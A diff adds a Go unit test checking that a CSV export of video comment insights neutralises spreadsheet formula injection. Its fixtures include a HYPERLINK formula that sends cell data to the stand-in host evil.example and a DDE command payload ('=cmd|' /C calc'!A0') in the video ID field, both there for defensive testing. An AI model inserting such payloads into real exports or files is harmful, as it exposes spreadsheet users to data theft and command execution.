@@ -0,0 +1,64 @@
+// internal/utils/insight_export_test.go
+package utils
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+
+	"github.com/Azertdev/FiberTest/internal/models"
+)
+
+func TestWriteInsightsCSVNeutralizesFormulas(t *testing.T) {
+	negatives, _ := json.Marshal([]string{
+		`=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")`,
+		"+33 6 12 34 56 78",
+		"-1 pour le son",
+		"@channel nul",
+		"\tindenté",
+		"\rretour",
+	})
+	questions, _ := json.Marshal([]string{"Quand sort la suite ?", "2+2=4 ?"})
+	insight := models.Insight{
+		ID: uuid.New(), VideoID: "=cmd|' /C calc'!A0", Version: 2, CreatedAt: time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC),
+		NegativeComments: negatives, QuestionComments: questions,
+	}
+
+	var out bytes.Buffer
+	if err := WriteInsightsCSV(&out, []models.Insight{insight}); err != nil {
+		t.Fatalf("WriteInsightsCSV: %v", err)
+	}
+	records, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatalf("CSV illisible: %v", err)
+	}
+	if len(records) != 9 {
+		t.Fatalf("%d lignes, attendu l'en-tête et 8 commentaires", len(records))
+	}
+	expected := map[string]string{
+		`=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")`: `'=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")`,
+		"+33 6 12 34 56 78":     "'+33 6 12 34 56 78",
+		"-1 pour le son":        "'-1 pour le son",
+		"@channel nul":          "'@channel nul",
+		"\tindenté":             "'\tindenté",
+		"\rretour":              "'\rretour",
+		"Quand sort la suite ?": "Quand sort la suite ?",
+		"2+2=4 ?":               "2+2=4 ?", // formule seulement en tête de cellule
+	}
+	got := map[string]bool{}
+	for _, record := range records[1:] {
+		if record[1] != "'=cmd|' /C calc'!A0" {
+			t.Fatalf("video_id non neutralisé: %q", record[1])
+		}
+		got[record[5]] = true
+	}
+	for original, cell := range expected {
+		if !got[cell] {
+			t.Errorf("%q exporté autrement que %q: %v", original, cell, got)
+		}
+	}
+}